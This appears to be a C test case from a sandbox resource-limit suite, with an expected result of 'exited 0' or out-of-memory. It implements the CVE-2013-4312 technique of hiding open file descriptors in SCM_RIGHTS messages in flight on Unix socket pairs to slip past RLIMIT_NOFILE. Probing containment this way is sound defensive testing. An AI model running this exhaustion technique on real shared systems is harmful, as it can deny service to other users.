// what: hides open files inside messages in flight, where no RLIMIT_NOFILE counts them (CVE-2013-4312)
// expect: exited 0 | out_of_memory
// with: memory=48M, wall=10s
#include <sys/socket.h>
#include "bomb.h"

int main(void) {
  int ends[2];
  long hidden = 0;
  while (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, ends) == 0 && hidden < 200000) {
    for (int fd = open("/dev/null", O_RDONLY); fd >= 0; ++hidden) {
      char byte = 0, room[CMSG_SPACE(sizeof fd)] = {0};
      struct iovec data = {&byte, 1};
      struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
      struct cmsghdr* header = CMSG_FIRSTHDR(&message);
      header->cmsg_level = SOL_SOCKET, header->cmsg_type = SCM_RIGHTS, header->cmsg_len = CMSG_LEN(sizeof fd);
      memcpy(CMSG_DATA(header), &fd, sizeof fd);
      if (sendmsg(ends[0], &message, 0) < 0) {
        close(fd);
        break;
      }
      close(fd);
      fd = open("/dev/null", O_RDONLY);
    }
  }
  if (hidden >= 200000) unlimited("files in flight", hidden);
  refused("socket pair or file", hidden);
  return 0;
}
